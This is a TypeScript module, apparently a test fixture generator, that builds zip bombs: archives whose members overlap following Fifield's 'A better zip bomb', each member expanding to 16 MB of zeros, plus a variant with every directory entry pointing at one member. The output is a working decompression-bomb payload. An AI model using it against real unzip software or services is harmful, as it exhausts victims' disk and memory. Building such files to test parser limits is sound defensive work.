import { crc32 } from 'node:zlib';
import { type DirectoryEntry, toDirectory, toLocalHeader } from './make-large-zip.ts';
import { makeZeros } from './make-zeros.ts';

const KERNEL_BYTES = 16_000_000;

/**
 * A zip whose members share their bytes, after David Fifield, "A better zip bomb" (https://www.bamsoftware.com/hacks/zipbomb/):
 * each one's data begin with a stored block that quotes the next one's header, and go on with the next one's data.
 */
export function makeOverlap(count: number): Buffer {
  const kernel = makeZeros(KERNEL_BYTES);
  const zeros = Buffer.alloc(KERNEL_BYTES);
  let quoted = Buffer.alloc(0);
  let file = kernel.packed;
  const lengths: number[] = [];
  const members = Array.from({ length: count }, (_, index) => {
    const member = {
      name: Buffer.from(`${count - index}`.padStart(6, '0')),
      method: 8 as const,
      packed: file,
      size: quoted.length + KERNEL_BYTES,
      crc: crc32(zeros, crc32(quoted)),
    };
    const header = toLocalHeader(member);
    lengths.push(header.length + 5);
    quoted = Buffer.concat([header, quoted]);
    file = Buffer.concat([toStoredHead(header.length), header, file]);
    return member;
  });
  const whole = file.subarray(5);
  // The last one made stands first, where no block stands before its header.
  const entries = members.map((member, index): DirectoryEntry => {
    const before = lengths.slice(index + 1).reduce((sum, length) => sum + length, 0);
    return { ...member, at: before };
  });
  return Buffer.concat([whole, toDirectory(entries.reverse(), whole.length)]);
}

/** A zip whose members all begin at the same place. */
export function makeFullOverlap(count: number): Buffer {
  const member = { name: Buffer.from('zeros'), method: 8 as const, ...makeZeros(KERNEL_BYTES) };
  const file = Buffer.concat([toLocalHeader(member), member.packed]);
  const entries = Array.from({ length: count }, () => ({ ...member, at: 0 }));
  return Buffer.concat([file, toDirectory(entries, file.length)]);
}

/** RFC 1951, 3.2.4. */
function toStoredHead(length: number): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt16LE(length, 1);
  head.writeUInt16LE(~length & 0xffff, 3);
  return head;
}
